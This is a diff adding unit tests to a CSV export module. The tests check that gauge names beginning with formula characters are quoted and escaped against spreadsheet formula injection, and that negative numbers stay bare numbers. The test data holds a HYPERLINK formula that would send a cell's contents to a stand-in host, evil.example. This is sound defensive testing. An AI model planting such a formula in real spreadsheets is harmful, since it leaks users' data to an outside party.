@@ -107,6 +107,39 @@ describe('csv', () => {
   });
 });
 
+describe('csv: formula injection (OWASP), read from the raw text', () => {
+  // Each prefix a spreadsheet reads as the start of a formula (or, TAB and CR, that it strips first).
+  const PREFIXES = [['=', 'equals'], ['+', 'plus'], ['-', 'minus'], ['@', 'at'], ['\t', 'TAB'], ['\r', 'CR']] as const;
+
+  it.each(PREFIXES)('a gauge name starting with %j (%s) is one quoted cell with a single quote before it', (prefix) => {
+    const input = makeInput();
+    const name = `${prefix}HYPERLINK("http://evil.example/?d="&A1,"x")`;
+    input.samples.gaugeNames = [name, 'a=b-c'];
+    const text = exportSession(input, 'csv') as string;
+    const header = text.slice(0, text.indexOf('\r\n')); // a lone CR inside the name is no record end
+    // The bytes: the cell opens with "' and its quotes are doubled; a name that only contains = - stays bare.
+    expect(header.endsWith(`,"'${prefix}HYPERLINK(""http://evil.example/?d=""&A1,""x"")",a=b-c`)).toBe(true);
+    const rows = parseCsv(text);
+    expect(rows[0]!.slice(-2)).toEqual([`'${name}`, 'a=b-c']);
+    expect(rows).toHaveLength(N + 1);
+  });
+
+  it('negative numbers stay bare numbers', () => {
+    const input = makeInput();
+    const { records, stride } = input.samples;
+    const values = [-5, -0.25, -1e-7, -123456.789];
+    values.forEach((v, i) => (records[i * stride + R.GAUGES] = v));
+    const text = exportSession(input, 'csv') as string;
+    const lines = text.split('\r\n');
+    const col = parseCsv(text)[0]!.indexOf(GAUGES[0]!);
+    values.forEach((v, i) => {
+      const cell = lines[i + 1]!.split(',')[col]!; // no quoted field in a data row: a plain split is exact
+      expect(cell).toBe(String(v));
+      expect(Number(cell)).toBe(v);
+    });
+  });
+});
+
 describe('json', () => {
   const input = makeInput();
   const doc = JSON.parse(exportSession(input, 'json'));
